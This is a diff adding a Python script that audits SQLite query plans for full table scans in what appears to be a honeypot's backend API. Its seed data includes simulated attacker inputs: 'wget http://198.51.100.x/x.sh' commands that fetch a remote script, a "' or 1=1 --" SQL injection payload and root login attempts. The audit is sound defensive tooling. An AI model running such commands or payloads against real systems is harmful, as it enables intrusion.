@@ -0,0 +1,227 @@
+"""
+audit_query_plans.py — EXPLAIN QUERY PLAN audit for the API's hot queries
+
+Builds a scratch SQLite database with the migrated schema and seeds a few
+rows. It then calls every read endpoint (and the ingestion, summary, cache
+and archive paths) while recording each SQL statement they issue. Finally it
+runs EXPLAIN QUERY PLAN on every recorded SELECT.
+
+Any `SCAN <table>` fails the audit, including `SCAN <table> USING [COVERING]
+INDEX ...`: walking a whole index still reads every row. Exceptions are
+tables that are tiny by design, callers that read the whole table on purpose
+(full exports, one-time backfills, whole-table aggregates), and index scans
+that only feed a LIMIT in index order (no temp sort), which stop after one
+page. `USE TEMP B-TREE` sorts are reported as warnings.
+
+Usage:
+    python audit_query_plans.py [--verbose]
+
+Exit status is 1 if any query scans a table it should not.
+"""
+
+import argparse
+import os
+import re
+import sys
+import tempfile
+
+# Point the backend at a throwaway database before it is imported
+_SCRATCH = tempfile.mkdtemp(prefix="honeypot-audit-")
+os.environ["HONEYPOT_DB_BACKEND"] = "sqlite"
+os.environ["HONEYPOT_DB_URL"] = f"sqlite:///{_SCRATCH}/audit.db"
+os.environ["ARCHIVE_DIR"] = os.path.join(_SCRATCH, "archive")
+os.environ["ARCHIVE_AFTER_DAYS"] = "1"
+os.environ["TRANSCRIPT_DIR"] = os.path.join(_SCRATCH, "transcripts")
+
+from datetime import datetime, timedelta  # noqa: E402
+
+from fastapi.testclient import TestClient  # noqa: E402
+from sqlalchemy import event  # noqa: E402
+
+from backend import main  # noqa: E402
+from backend.aggregator import backfill_fingerprints, backfill_summaries, rebuild_summary  # noqa: E402
+from backend.ai_analyzer import classify_command  # noqa: E402
+from backend.analysis_cache import AnalysisCache  # noqa: E402
+from backend.database import SessionLocal, async_engine, engine  # noqa: E402
+from backend.ingestion import (  # noqa: E402
+    CommandEvent, LoginEvent, WebAttackEvent, ServiceProbeEvent,
+    SshConnectionEvent, SshSessionEvent, ingestor
+)
+from backend.models import AttackerTechnique, DynamicService  # noqa: E402
+from backend.techniques import technique_catalog  # noqa: E402
+
+# Tables that only ever hold a handful of rows — scanning them is cheaper than an index
+SMALL_TABLES = {"stat_counters", "dynamic_services", "schema_version", "techniques"}
+
+# Callers that read an entire table on purpose
+FULL_SCAN_OK = {
+    "export", "backfill",
+    "catalog",    # the audit itself builds a mask from every attacker technique
+    "trim",       # the analysis cache counts its rows to stay under its size bound
+    "aggregate",  # GROUP BY over every command template
+}
+
+_SCAN = re.compile(r"^SCAN (\w+)")
+_INDEX_SCAN = re.compile(r"^SCAN \w+(?: AS \w+)? USING (?:COVERING )?INDEX ")
+_LIMIT = re.compile(r"\bLIMIT\b", re.IGNORECASE)
+
+
+class Recorder:
+    """Collects (label, statement, parameters) for every SELECT the backend runs."""
+
+    def __init__(self):
+        self.label = "setup"
+        self.statements = {}
+
+    def __call__(self, conn, cursor, statement, parameters, context, executemany):
+        if statement.lstrip().upper().startswith("SELECT") and not executemany:
+            self.statements.setdefault(statement, (self.label, parameters))
+
+
+def exercise(recorder: Recorder):
+    ip = "203.0.113.7"
+    old = datetime.utcnow() - timedelta(days=3)
+
+    db = SessionLocal()
+    db.add(DynamicService(name="mysql", port=3307, banner="", interaction_count=0, is_active=1))
+    db.commit()
+    db.close()
+
+    recorder.label = "ingestion"
+    events = []
+    for i in range(5):
+        ts = old if i < 2 else datetime.utcnow()
+        command = f"wget http://198.51.100.{i}/x.sh"
+        events += [
+            CommandEvent(ip=ip, command=command, analysis=classify_command(command), timestamp=ts),
+            LoginEvent(ip=ip, username="root", password=f"pw{i}", source="ssh", timestamp=ts),
+            WebAttackEvent(ip=ip, endpoint="/admin/login", payload="' or 1=1 --", user_agent="curl", timestamp=ts),
+            ServiceProbeEvent(ip=ip, service_name="mysql", service_port=3307, raw_data="probe", timestamp=ts),
+            SshSessionEvent(ip=ip, session_id=f"s{i}", timestamp=ts),
+            SshSessionEvent(ip=ip, session_id=f"s{i}", ended=True, duration_s=5, commands=1, timestamp=ts),
+            SshConnectionEvent(ip=ip, client_version="SSH-2.0-Go", hassh="0" * 32, hassh_algorithms="a;b;c;none",
+                               auth_methods="password", auth_attempts=1, timestamp=ts),
+        ]
+    ingestor._flush(events)
+
+    recorder.label = "catalog"
+    # A fresh process renders masks read from the DB before it has seen any tag
+    technique_catalog.invalidate()
+    db = SessionLocal()
+    mask = 0
+    for (bit,) in db.query(AttackerTechnique.technique_pk):
+        mask |= 1 << bit
+    assert technique_catalog.render(db, mask), "empty technique catalog rendered no ttp_tags"
+    db.close()
+
+    recorder.label = "summaries"
+    db = SessionLocal()
+    rebuild_summary(db, 1)
+    db.rollback()
+    db.close()
+
+    recorder.label = "backfill"
+    db = SessionLocal()
+    backfill_summaries(db)
+    backfill_fingerprints(db)
+    db.close()
+
+    recorder.label = "analysis_cache"
+    cache = AnalysisCache(memory_size=1, disk_size=1)
+    cache.put("uname -a", {"score": 10})
+    cache.put("id", {"score": 10})
+    cache.get("uname -a")
+    recorder.label = "trim"
+    db = SessionLocal()
+    cache._trim_disk(db)
+    db.close()
+
+    since = (datetime.utcnow() - timedelta(hours=1)).isoformat()
+    client = TestClient(main.app)  # no lifespan: listeners stay down
+    requests = [
+        ("api", "/api/stats", {}),
+        ("api", "/api/stats/rates", {"granularity": "minute", "window": 60}),
+        ("api", "/api/attackers", {}),
+        ("api", "/api/attackers", {"country": "Russia", "min_risk": 10, "since": since}),
+        ("api", f"/api/attacker/{ip}/profile", {}),
+        ("api", "/api/recent_activity", {}),
+        ("aggregate", "/api/commands/fingerprints", {}),
+        ("api", "/api/commands/fingerprints", {"ip": ip}),
+        ("api", "/api/techniques", {}),
+        ("api", "/api/techniques/T1046-MYSQL/attackers", {"limit": 1}),
+        ("api", "/api/techniques/T1059/attackers", {"since": since, "min_count": 2}),
+        ("api", "/api/credentials", {"limit": 1}),
+        ("api", "/api/credentials", {"source": "ssh", "since": since}),
+        ("api", "/api/credentials", {"ip": ip}),
+        ("api", "/api/services", {}),
+        ("api", "/api/services/mysql/interactions", {"limit": 1}),
+        ("api", "/api/services/mysql/interactions", {"ip": ip, "since": since}),
+        ("api", "/api/sessions", {"limit": 1}),
+        ("api", "/api/sessions", {"ip": ip, "since": since}),
+        ("api", "/api/sessions/s4", {}),
+        ("api", "/api/ssh/fingerprints", {}),
+        ("api", "/api/ssh/fingerprints", {"sort": "last_seen"}),
+        ("api", "/api/ssh/connections", {"limit": 1}),
+        ("api", "/api/ssh/connections", {"hassh": "0" * 32, "since": since}),
+        ("api", "/api/ssh/connections", {"ip": ip}),
+        ("api", "/api/history/commands", {"ip": ip}),
+        ("api", "/api/history/credentials", {"since": since}),
+        ("export", "/api/threat-intel/export", {}),
+        ("api", "/api/threat-intel/export", {"since": since}),
+    ]
+    for label, path, params in requests:
+        recorder.label = f"{label} GET {path}"
+        response = client.get(path, params=params)
+        cursor = response.headers.get("X-Next-Cursor")
+        if cursor:
+            client.get(path, params={**params, "cursor": cursor})
+
+    recorder.label = "archive"
+    client.post("/api/archive/run")
+
+
+def audit(recorder: Recorder, verbose: bool) -> int:
+    failures = warnings = 0
+    with engine.connect() as conn:
+        for statement, (label, parameters) in recorder.statements.items():
+            plan = [row[3] for row in conn.exec_driver_sql("EXPLAIN QUERY PLAN " + statement, parameters)]
+            caller = label.split(" ", 1)[0]
+            sorts = [detail for detail in plan if detail.startswith("USE TEMP B-TREE")]
+            # Rows come out in index order and the LIMIT stops the walk after one page
+            paged = _LIMIT.search(statement) and not any("ORDER BY" in detail for detail in sorts)
+            bad = [
+                detail for detail in plan
+                if (m := _SCAN.match(detail)) and m.group(1) not in SMALL_TABLES and caller not in FULL_SCAN_OK
+                and not (paged and _INDEX_SCAN.match(detail))
+            ]
+            if bad:
+                failures += 1
+            if sorts:
+                warnings += 1
+            if bad or verbose or sorts:
+                status = "FAIL" if bad else "WARN" if sorts else "ok"
+                print(f"[{status}] {label}")
+                print("       " + " ".join(statement.split())[:200])
+                for detail in plan:
+                    print(f"         - {detail}")
+    print(f"\n{len(recorder.statements)} distinct queries, {failures} full scan(s), {warnings} temp sort(s)")
+    return failures
+
+
+def main_():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--verbose", action="store_true", help="print every plan, not just problems")
+    args = parser.parse_args()
+
+    recorder = Recorder()
+    event.listen(engine, "before_cursor_execute", recorder)
+    event.listen(async_engine.sync_engine, "before_cursor_execute", recorder)
+    exercise(recorder)
+    event.remove(engine, "before_cursor_execute", recorder)
+    event.remove(async_engine.sync_engine, "before_cursor_execute", recorder)
+
+    sys.exit(1 if audit(recorder, args.verbose) else 0)
+
+
+if __name__ == "__main__":
+    main_()